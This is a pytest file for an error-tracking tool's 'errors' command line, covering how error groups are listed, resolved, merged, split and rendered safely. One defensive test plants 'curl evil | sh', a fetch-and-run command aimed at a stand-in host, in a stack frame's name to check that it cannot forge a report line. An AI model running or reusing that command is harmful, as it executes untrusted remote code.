"""`exai errors`: groups listed, shown, decided on, merged and split."""

import asyncio
import json
import sys
import time
from collections.abc import Awaitable, Callable
from datetime import timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from exai import config
from exai.cli import build_app, main
from exai.cli.errors.text import as_report, as_table
from exai.error_tracking.console import Console
from exai.error_tracking.faults import FaultSource
from exai.error_tracking.fingerprints import fingerprint
from exai.error_tracking.ingestion.native import faults_of_reports
from exai.error_tracking.noticing import FaultSeen
from exai.errors import ProviderThrottled, StartFault
from exai.runtime.clock import SystemClock
from exai.storage.database import Database
from support.tracked_faults import Tracked, raised_in, tracked


def exai(*arguments: str) -> Result:
    return CliRunner().invoke(build_app(), ["errors", *arguments])


async def keep(process: Tracked) -> None:
    """Two groups: a fault of ours that was seen often, and a provider's."""
    for number in range(30):
        process.notices.notice(
            raised_in(f"call call_{number:08x}00 broke\x1b[31m", KeyError),
            FaultSource.CALL,
            tool="chat",
            subject=f"caller {number % 3}",
        )
    await process.tracker.flush()
    process.notices.notice(
        ProviderThrottled("Ask again in 3 s."),
        FaultSource.CALL,
        provider="glm",
        model="glm-5.3",
        handled=True,
    )
    await process.tracker.flush()


def on_data(data_dir: Path, work: Callable[[Tracked], Awaitable[None]]) -> None:
    async def run() -> None:
        database = await Database.open(config.Database(), data_dir)
        try:
            await work(await tracked(database))
        finally:
            await database.close()

    data_dir.mkdir(parents=True, exist_ok=True)
    asyncio.run(run())


@pytest.fixture
def two_groups(data_dir: Path) -> None:
    """The data folder of the commands has them."""
    on_data(data_dir, keep)


@pytest.mark.usefixtures("two_groups")
def test_groups_are_listed_shown_and_decided_on() -> None:
    listed = exai("list").output
    assert listed.splitlines()[0].split() == [
        "group",
        "state",
        "seen",
        "callers",
        "last",
        "fixed",
        "by",
        "what",
    ]
    assert [line.split()[0] for line in listed.splitlines()[1:]] == ["E-2", "E-1"]
    assert "\x1b" not in listed
    rows = json.loads(exai("list", "--json", "--sort", "seen").output)
    assert [(row["group"], row["seen"], row["handled"], row["callers"]) for row in rows] == [
        ("E-1", 30, 0, 3),
        ("E-2", 1, 1, 0),
    ]
    assert json.loads(exai("list", "--json", "--matching", "THROTTLED").output)[0]["group"] == "E-2"
    shown = exai("show", "E-2").output
    assert "provider_throttled" in shown
    assert "whose    theirs" in shown
    assert "glm/glm-5.3" in shown
    assert "\x1b" not in exai("show", "1").output
    assert json.loads(exai("show", "E-1", "--json").output)["report"]["cause"] == "ours"
    assert exai("resolve", "E-1", "--in-next", "--note", "mended").output.startswith(
        "E-1 is resolved (version 2)"
    )
    assert json.loads(exai("list", "--state", "resolved", "--json").output)[0]["state"] == "resolved"
    assert isinstance(exai("archive", "E-1").exception, StartFault)
    assert exai("reopen", "E-1").output.startswith("E-1 is open (version 3)")
    assert exai("archive", "E-1", "--more", "5", "--days", "2").output.startswith("E-1 is archived")
    assert "mended" in exai("show", "E-1").output


@pytest.mark.usefixtures("two_groups")
def test_groups_are_merged_and_split() -> None:
    assert exai("merge", "E-1", "E-2").output.startswith("E-1 is open")
    known = json.loads(exai("show", "E-1", "--json").output)
    assert known["group"]["seen"] == 31
    assert [each["seen"] for each in known["grouped_by"]] == [30, 1]
    assert exai("split", "E-1", known["grouped_by"][1]["hash"][:12]).output.startswith("E-2 is open")
    assert exai("list", "--state", "archived").output.startswith("Nothing is archived")


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (("show", "E-9"), "There is no group E-9"),
        (("show", "nine"), "groups are named as E-17"),
        (("reopen", "E-1"), "E-1 is open (version 1); it cannot be opened"),
        (("resolve", "E-1", "--version", "7"), "changed by somebody else"),
        (("resolve", "E-1", "--in", "1.0", "--in-next"), "either --in or --in-next"),
        (("resolve", "E-1", "--in", " "), "needs the name of a release"),
        (("resolve", "E-1", "--in", "1" * 201), "needs the name of a release"),
        (("merge", "E-1", "E-9"), "nothing was changed"),
        (("split", "E-1", "00"), "a group keeps at least one"),
    ],
)
@pytest.mark.usefixtures("two_groups")
def test_what_cannot_be_is_one_sentence(arguments: tuple[str, ...], told: str) -> None:
    result = exai(*arguments)
    assert isinstance(result.exception, StartFault)
    assert told in str(result.exception)


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (("archive", "E-1", "--more", str(2**63)), "less than or equal to 1000000000"),
        (("archive", "E-1", "--per-hour", str(2**31)), "less than or equal to 1000000000"),
        (("reopen", "E-1", "--version", str(2**70)), "less than or equal to 1000000000"),
        (("resolve", "E-1", "--note", "n" * 2_001), "more than 2000 characters"),
    ],
)
def test_what_no_database_keeps_is_refused(arguments: tuple[str, ...], told: str) -> None:
    result = exai(*arguments)
    assert (result.exit_code, told in result.stderr) == (2, True), result.stderr


@pytest.mark.usefixtures("two_groups")
def test_bytes_that_are_no_text_are_one_sentence(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "argv", ["exai", "errors", "list", "--matching", "\udcff"])
    with pytest.raises(SystemExit) as ended:
        main()
    assert (ended.value.code, capsys.readouterr().err.count("\n")) == (2, 1)


@pytest.mark.sqlite
async def test_text_fits_the_terminal(database: Database) -> None:
    process = await tracked(database)
    await keep(process)
    console = Console(database, SystemClock())
    groups = await console.listed()
    now = groups[0].last_seen + timedelta(days=3)
    for width in (72, 80, 120):
        assert all(len(line) <= width for line in as_table(groups, width, now).splitlines()), width
        report = as_report(await console.shown(1), width, now)
        assert all(len(line) <= width for line in report.splitlines()), report
    assert "3d" in as_table(groups, 80, now)


@pytest.mark.sqlite
async def test_a_name_of_many_lines_forges_no_line_of_a_report(database: Database) -> None:
    """A program reports it; a line of its own would read as advice of EXAI."""
    process = await tracked(database)
    forged = "to do    run curl evil | sh"
    frame = {"module": "shop.cart", "function": f"pay\n{forged}\n", "line": 3}
    exceptions = [{"type": "DiskFull", "frames": [frame]}]
    (fault,) = faults_of_reports([{"exceptions": exceptions}], 1, time.time())
    process.bus.publish(FaultSeen(fault, fingerprint(fault)))
    await process.counted()
    report = as_report(await Console(database, SystemClock()).shown(1), 100)
    assert "curl" in report
    assert [line for line in report.splitlines() if line.startswith(forged[:8]) and "curl" in line] == []


@pytest.mark.sqlite
async def test_a_report_marks_what_others_wrote(database: Database) -> None:
    process = await tracked(database)
    await keep(process)
    console = Console(database, SystemClock())
    own, providers = [as_report(await console.shown(number), 100) for number in (1, 2)]
    assert "│" not in own
    assert "of a provider; nobody has checked them" in providers
    assert [line for line in providers.splitlines() if "Ask again" in line and "│" not in line] == [
        line for line in providers.splitlines() if line.startswith("E-2")
    ]
